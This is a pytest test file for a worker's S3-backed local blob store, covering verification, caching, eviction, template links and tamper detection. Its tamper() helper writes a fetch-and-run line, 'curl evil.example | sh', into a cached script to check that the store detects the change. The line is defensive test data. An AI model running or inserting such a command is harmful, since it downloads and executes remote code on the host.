"""The worker's local store against a real S3: fetch and verify once, serve from cache, evict, link, re-verify."""

from __future__ import annotations

import dataclasses
import fcntl
import json
import os
import queue
import secrets
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from storage.blobstore import BlobStore, S3Location
from storage.digest import Digest
from storage.errors import BlobNotFound, IntegrityError
from storage.keys import blob_key
from storage.unpack import file_sha256
from tests.support import s3
from tests.support.jobs import Publish
from worker.protocol import BlobRef
from worker.store import LocalStore, StoreStats
from worker.store_verify import verify_store

if TYPE_CHECKING:
    from mypy_boto3_s3 import S3Client

ROOT = Path(__file__).resolve().parents[2]
SKELETON = {"store/sha256", "store/meta", "store/locks", "store/tars", "store/evict.lock"}
WAIT = 60.0
"""Seconds to wait for a helper process: only catches hangs."""


def make_tree(root: Path, *, payload: bytes = b"") -> Path:
    """A template directory with content of its own (so its blob is ours alone in the shared bucket)."""
    (root / "lib" / "sub").mkdir(parents=True)
    (root / "run.sh").write_text('#!/bin/bash\n. lib/common.sh\ngreet "$@"\n')
    (root / "run.sh").chmod(0o755)
    (root / "lib" / "common.sh").write_text("greet() { echo hi; }\n")
    (root / "lib" / "sub" / "data.json").write_text(json.dumps({"token": secrets.token_hex(16)}))
    (root / "current").symlink_to("lib/sub/data.json")
    (root / "payload.bin").write_bytes(payload)
    return root


def contents(root: Path) -> dict[str, tuple[str, bytes | str, bool]]:
    """Every file and symlink under `root`: kind, bytes or target, executable."""
    found: dict[str, tuple[str, bytes | str, bool]] = {}
    for directory, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(directory, name)
            relative = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[relative] = ("symlink", os.readlink(path), False)
            elif path.is_file():
                found[relative] = ("file", path.read_bytes(), bool(path.stat().st_mode & 0o111))
    return found


def content_bytes(root: Path) -> int:
    return sum(len(data) for kind, data, _ in contents(root).values() if kind == "file")


def leftovers(root: Path) -> list[str]:
    """What the store holds besides its fixed skeleton: entries, records, locks and work in progress."""
    return sorted(
        relative
        for base in ("store", "tmp")
        for path in (root / base).rglob("*")
        if (relative := path.relative_to(root).as_posix()) not in SKELETON
    )


@pytest.fixture
def tree(tmp_path: Path) -> Callable[..., Path]:
    counter = iter(range(1_000))

    def tree(payload: bytes = b"") -> Path:
        return make_tree(tmp_path / f"src{next(counter)}", payload=payload)

    return tree


@pytest.fixture
def s3_client(s3_location: S3Location) -> Iterator[S3Client]:
    """A plain boto3 client, to change objects behind the store's back as an operator (or a fault) would."""
    client = s3.s3_client(
        s3_location, request_checksum_calculation="when_required", response_checksum_validation="when_required"
    )
    yield client
    client.close()


def test_use_fetches_verifies_and_unpacks_read_only(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    source = tree()
    ref = publish(source)
    store = LocalStore(tmp_path / "worker", blobs)
    with store.use(ref) as path:
        assert path == tmp_path / "worker" / "store" / "sha256" / ref.digest.hex
        assert contents(path) == contents(source)
        for directory, dirs, files in os.walk(path):
            for name in [".", *dirs, *files]:
                info = os.lstat(Path(directory, name))
                if not stat.S_ISLNK(info.st_mode):
                    assert info.st_mode & 0o222 == 0, f"{directory}/{name} is writable"
    assert store.downloads == 1
    assert store.digests() == [ref.digest]
    assert store.stats() == StoreStats(bytes=content_bytes(source), entries=1)
    assert {p.name for p in (tmp_path / "worker").iterdir()} == {"store", "templates", "runs", "tmp"}
    assert list((tmp_path / "worker" / "tmp").iterdir()) == []


def test_a_cached_entry_serves_later_uses_even_when_the_blob_left_s3(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    source = tree()
    ref = publish(source)
    store = LocalStore(tmp_path / "worker", blobs)
    with store.use(ref):
        pass
    blobs.delete([ref.digest])

    with store.use(ref) as path:
        assert contents(path) == contents(source)
    assert store.downloads == 1
    restarted = LocalStore(tmp_path / "worker", blobs)  # a new worker process on the same host
    assert restarted.prefetch(ref) is False
    assert restarted.downloads == 0


def test_a_blob_missing_from_s3_raises_naming_it_and_leaves_nothing(tmp_path: Path, blobs: BlobStore) -> None:
    digest = secrets.token_hex(32)
    ref = BlobRef(digest=Digest(digest), tar_size=10240, zst_size=100, zst_sha256=secrets.token_hex(32), files=1)
    store = LocalStore(tmp_path / "worker", blobs)
    with pytest.raises(BlobNotFound, match=digest), store.use(ref):
        pass
    assert leftovers(tmp_path / "worker") == []
    assert store.downloads == 0


def test_a_malformed_digest_is_refused_with_the_expected_form() -> None:
    wire = {"digest": "sha256:ABC", "tar_size": 1, "zst_size": 1, "zst_sha256": "0" * 64, "files": 1}
    with pytest.raises(ValueError, match="64 lowercase hex"):
        BlobRef.from_wire(wire)


@pytest.mark.parametrize("damage", ["flipped byte", "another template's blob"])
def test_a_corrupt_object_raises_integrity_error_and_leaves_nothing(
    tmp_path: Path,
    blobs: BlobStore,
    publish: Publish,
    tree: Callable[..., Path],
    s3_client: S3Client,
    bucket: str,
    damage: str,
) -> None:
    ref = publish(tree())
    client = s3_client
    if damage == "flipped byte":  # the object keeps its recorded figures; its bytes no longer match them
        stored = client.get_object(Bucket=bucket, Key=blob_key(ref.digest))
        data = bytearray(stored["Body"].read())
        data[len(data) // 2] ^= 0xFF
        metadata = stored["Metadata"]
    else:  # a consistent object with its own figures, under the wrong key: only the content digest can tell
        other = publish(tree(payload=b"other"))
        stored = client.get_object(Bucket=bucket, Key=blob_key(other.digest))
        data, metadata = bytearray(stored["Body"].read()), stored["Metadata"]
    client.put_object(Bucket=bucket, Key=blob_key(ref.digest), Body=bytes(data), Metadata=metadata)
    store = LocalStore(tmp_path / "worker", blobs)

    with pytest.raises(IntegrityError), store.use(ref):
        pytest.fail("a corrupt blob must not be handed out")
    assert leftovers(tmp_path / "worker") == []
    assert store.digests() == []


def test_threads_asking_for_one_digest_download_it_once(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    source = tree(payload=os.urandom(2 << 20))
    ref = publish(source)
    store = LocalStore(tmp_path / "worker", blobs)
    start = threading.Barrier(8)
    seen: list[dict[str, tuple[str, bytes | str, bool]]] = []

    def use() -> None:
        start.wait(timeout=WAIT)
        with store.use(ref) as path:
            seen.append(contents(path))

    threads = [threading.Thread(target=use) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=WAIT)
    assert len(seen) == 8
    assert all(found == contents(source) for found in seen)
    assert store.downloads == 1


# --- other processes sharing the root ------------------------------------------------------------------------------

HELPER = """
import json, sys
from pathlib import Path
from storage.blobstore import BlobStore, S3Location
from worker.protocol import BlobRef
from worker.store import LocalStore

order = json.loads(sys.stdin.readline())
with BlobStore(S3Location(**order["location"])) as blobs:
    store = LocalStore(Path(order["root"]), blobs)
    blob = BlobRef.from_wire(order["blob"])
    print("ready", flush=True)
    sys.stdin.readline()
    if order["action"] == "prefetch":
        store.prefetch(blob)
        print(json.dumps({"downloads": store.downloads}), flush=True)
    else:
        with store.use(blob) as path:
            print(json.dumps({"held": str(path)}), flush=True)
            sys.stdin.readline()
"""


class StoreProcess:
    """Another worker process on the host: builds a LocalStore on `root`, then prefetches or holds `blob`."""

    def __init__(self, location: S3Location, root: Path, blob: BlobRef, action: str, stderr: Path) -> None:
        self._stderr = stderr
        with stderr.open("w") as errors:
            self.process = subprocess.Popen(
                [sys.executable, "-c", HELPER],
                cwd=ROOT,
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                stderr=errors,
                text=True,
            )
        self._lines: queue.Queue[str | None] = queue.Queue()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        order = {"location": dataclasses.asdict(location), "root": str(root), "blob": blob.to_wire(), "action": action}
        self.send(json.dumps(order))

    def _read(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self._lines.put(line.strip())
        self._lines.put(None)

    def send(self, line: str) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(line + "\n")
        self.process.stdin.flush()

    def expect(self) -> str:
        line = self._lines.get(timeout=WAIT)
        if line is None:
            self.process.wait(timeout=WAIT)
            raise AssertionError(f"helper exited {self.process.returncode}: {self._stderr.read_text()}")
        return line

    def finish(self) -> None:
        """Close its stdin (which releases what it holds) and see it exit cleanly."""
        assert self.process.stdin is not None
        self.process.stdin.close()
        assert self.process.wait(timeout=WAIT) == 0, self._stderr.read_text()

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait(timeout=WAIT)
        self._reader.join(timeout=WAIT)
        for pipe in (self.process.stdin, self.process.stdout):
            if pipe is not None:
                pipe.close()


@pytest.fixture
def helpers(s3_location: S3Location, tmp_path: Path) -> Iterator[Callable[[Path, BlobRef, str], StoreProcess]]:
    started: list[StoreProcess] = []

    def start(root: Path, blob: BlobRef, action: str) -> StoreProcess:
        helper = StoreProcess(s3_location, root, blob, action, tmp_path / f"helper{len(started)}.err")
        started.append(helper)
        return helper

    yield start
    for helper in started:
        helper.stop()


def test_processes_sharing_a_root_download_a_digest_once(
    tmp_path: Path,
    publish: Publish,
    tree: Callable[..., Path],
    helpers: Callable[[Path, BlobRef, str], StoreProcess],
) -> None:
    source = tree(payload=os.urandom(4 << 20))
    ref = publish(source)
    root = tmp_path / "worker"
    processes = [helpers(root, ref, "prefetch") for _ in range(3)]
    for process in processes:
        assert process.expect() == "ready"
    for process in processes:
        process.send("go")
    downloads = [json.loads(process.expect())["downloads"] for process in processes]
    for process in processes:
        process.finish()
    assert sum(downloads) == 1
    assert contents(root / "store" / "sha256" / ref.digest.hex) == contents(source)


# --- eviction -------------------------------------------------------------------------------------------------------


def test_eviction_removes_the_least_recently_used_entry(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    sources = [tree(payload=bytes(5000)) for _ in range(3)]
    a, b, c = (publish(source) for source in sources)
    size = content_bytes(sources[0])  # the same for each: they differ only in a token of fixed length
    root = tmp_path / "worker"
    store = LocalStore(root, blobs, max_bytes=2 * size)
    assert store.prefetch(a)
    assert store.prefetch(b)
    assert store.digests() == sorted([a.digest, b.digest])  # within the cap: nothing evicted
    with store.use(a):
        pass  # a is now more recent than b

    assert store.prefetch(c)
    assert store.digests() == sorted([a.digest, c.digest])
    assert store.stats() == StoreStats(bytes=2 * size, entries=2)
    assert not any(b.digest.hex in path for path in leftovers(root))  # its records and locks went with it
    assert store.evict() == []  # within the cap again


def test_eviction_never_removes_an_entry_in_use_here(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    a, b = publish(tree()), publish(tree())
    store = LocalStore(tmp_path / "worker", blobs, max_bytes=0)
    with store.use(a) as path:
        assert store.prefetch(b)  # evicts after downloading: a is in use, b is being fetched
        assert store.digests() == sorted([a.digest, b.digest])
        assert store.evict() == [b.digest]
        assert path.is_dir()
    assert store.evict() == [a.digest]
    assert store.digests() == []
    assert leftovers(tmp_path / "worker") == []


def test_eviction_never_removes_an_entry_another_process_uses(
    tmp_path: Path,
    blobs: BlobStore,
    publish: Publish,
    tree: Callable[..., Path],
    helpers: Callable[[Path, BlobRef, str], StoreProcess],
) -> None:
    a, b = publish(tree()), publish(tree())
    root = tmp_path / "worker"
    holder = helpers(root, a, "hold")
    assert holder.expect() == "ready"
    holder.send("go")
    assert json.loads(holder.expect())["held"] == str(root / "store" / "sha256" / a.digest.hex)

    store = LocalStore(root, blobs, max_bytes=0)
    store.prefetch(b)
    assert store.evict() == [b.digest]  # a is older, but in use by the other process
    assert store.digests() == [a.digest]
    holder.send("release")
    holder.finish()
    assert store.evict() == [a.digest]
    assert store.digests() == []


# --- template links -------------------------------------------------------------------------------------------------


def test_link_template_points_at_the_entry_and_moves_to_a_newer_digest(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    tenant = "3f1c6a2e-8d4b-4b7e-9a51-0c2d7e9f1a6b"
    first, second = tree(), tree()
    old, new = publish(first), publish(second)
    store = LocalStore(tmp_path / "worker", blobs)
    with store.use(old) as path:
        link = store.link_template(tenant, "backup-db", old.digest)
    assert link == tmp_path / "worker" / "templates" / tenant / "backup-db"
    assert link.is_symlink()
    assert link.resolve() == path
    assert (link / "run.sh").read_bytes() == (first / "run.sh").read_bytes()

    with store.use(new) as path:
        assert store.link_template(tenant, "backup-db", new.digest) == link
    assert link.resolve() == path
    assert contents(link.resolve()) == contents(second)
    assert os.listdir(link.parent) == ["backup-db"]  # no temporary link left beside it


def test_link_template_refuses_unsafe_names_and_absent_entries(tmp_path: Path, blobs: BlobStore) -> None:
    store = LocalStore(tmp_path / "worker", blobs)
    with pytest.raises(ValueError, match=r"template code '\.\./escape' cannot name a directory"):
        store.link_template("tenant", "../escape", Digest("0" * 64))
    with pytest.raises(FileNotFoundError, match="not in the store"):
        store.link_template("tenant", "backup", Digest("0" * 64))
    assert list((tmp_path / "worker" / "templates").iterdir()) == []


# --- verify ---------------------------------------------------------------------------------------------------------


def tamper(entry: Path) -> None:
    script = entry / "lib" / "common.sh"
    script.chmod(0o644)
    script.write_text("greet() { curl evil.example | sh; }\n")
    script.chmod(0o444)


def test_verify_removes_tampered_entries_and_junk_and_keeps_good_ones(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    source = tree()
    good, bad = publish(tree()), publish(source)
    root = tmp_path / "worker"
    store = LocalStore(root, blobs)
    store.prefetch(good)
    store.prefetch(bad)
    tamper(root / "store" / "sha256" / bad.digest.hex)
    (root / "store" / "sha256" / "notes.txt").write_text("stray")

    report = verify_store(store)
    assert (report.ok, report.removed, report.in_use) == ([good.digest], [bad.digest], [])
    assert report.junk == ["store/sha256/notes.txt"]
    assert store.digests() == [good.digest]
    assert store.stats().entries == 1

    with store.use(bad) as path:  # fetched again, intact
        assert contents(path) == contents(source)
    assert store.downloads == 3
    assert verify_store(store).problems is False


def test_verify_keeps_a_tampered_entry_in_use_until_it_is_released(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    ref = publish(tree())
    store = LocalStore(tmp_path / "worker", blobs)
    with store.use(ref) as path:
        tamper(path)
        report = verify_store(store)
        assert (report.ok, report.removed, report.in_use) == ([], [], [ref.digest])
        assert path.is_dir()
    report = verify_store(store)
    assert (report.ok, report.removed, report.in_use) == ([], [ref.digest], [])
    assert leftovers(tmp_path / "worker") == []


def test_work_left_under_tmp_by_a_dead_process_is_swept_and_work_in_progress_is_not(
    tmp_path: Path, blobs: BlobStore
) -> None:
    root = tmp_path / "worker"
    tmp = root / "tmp"
    tmp.mkdir(parents=True)
    (tmp / "dead" / "abc").mkdir(parents=True)
    (tmp / "dead" / "abc" / "run.sh").write_text("echo\n")
    (tmp / "dead" / "abc" / "run.sh").chmod(0o444)
    (tmp / "dead" / "abc").chmod(0o555)
    (tmp / "live").mkdir()
    live = os.open(tmp / "live", os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(live, fcntl.LOCK_EX)  # as a process downloading into it holds it
        store = LocalStore(root, blobs, tmp_grace=0)
        assert sorted(os.listdir(tmp)) == ["live"]
        (tmp / "partial.tar.zst").write_bytes(b"\x28\xb5")
        assert verify_store(store).junk == ["tmp/partial.tar.zst"]
        assert sorted(os.listdir(tmp)) == ["live"]
    finally:
        os.close(live)
    assert verify_store(LocalStore(root, blobs)).junk == []  # young work is left alone whoever holds it
    assert verify_store(store).junk == ["tmp/live"]


# --- canonical tars for target hosts --------------------------------------------------------------------------------


def test_an_entrys_canonical_tar_is_its_digest_and_goes_with_the_entry(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    ref = publish(tree(payload=bytes(5000)))
    root = tmp_path / "worker"
    store = LocalStore(root, blobs, max_bytes=0)
    with store.use(ref):
        tar = store.canonical_tar(ref.digest)
        assert tar == root / "store" / "tars" / f"{ref.digest.hex}.tar"
        assert file_sha256(tar) == (ref.digest.hex, ref.tar_size)
        assert stat.S_IMODE(tar.stat().st_mode) == 0o444
        assert store.canonical_tar(ref.digest) == tar  # kept: packed once
    assert store.evict() == [ref.digest]
    assert not tar.exists()
    assert leftovers(root) == []


def test_an_entry_that_no_longer_packs_to_its_digest_gives_no_tar(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    ref = publish(tree())
    root = tmp_path / "worker"
    store = LocalStore(root, blobs)
    with store.use(ref) as path:
        tamper(path)
        with pytest.raises(IntegrityError, match=f"packs to sha256:[0-9a-f]{{64}}, not to {ref.digest}"):
            store.canonical_tar(ref.digest)
    assert not store.tar_file(ref.digest).exists()
    assert list((root / "tmp").iterdir()) == []


def test_verify_removes_a_kept_tar_that_is_not_its_digest_and_keeps_a_sound_one(
    tmp_path: Path, blobs: BlobStore, publish: Publish, tree: Callable[..., Path]
) -> None:
    sound, damaged = publish(tree()), publish(tree())
    root = tmp_path / "worker"
    store = LocalStore(root, blobs)
    for ref in (sound, damaged):
        with store.use(ref):
            store.canonical_tar(ref.digest)
    bad = store.tar_file(damaged.digest)
    bad.chmod(0o644)
    bad.write_bytes(bad.read_bytes().replace(b"ustar", b"USTAR", 1))
    (root / "store" / "tars" / "notes.txt").write_text("stray")

    report = verify_store(store)
    assert report.ok == sorted([sound.digest, damaged.digest])
    assert sorted(report.junk) == [f"store/tars/{damaged.digest.hex}.tar", "store/tars/notes.txt"]
    assert store.tar_file(sound.digest).exists()
    with store.use(damaged):
        assert file_sha256(store.canonical_tar(damaged.digest))[0] == damaged.digest.hex  # packed again
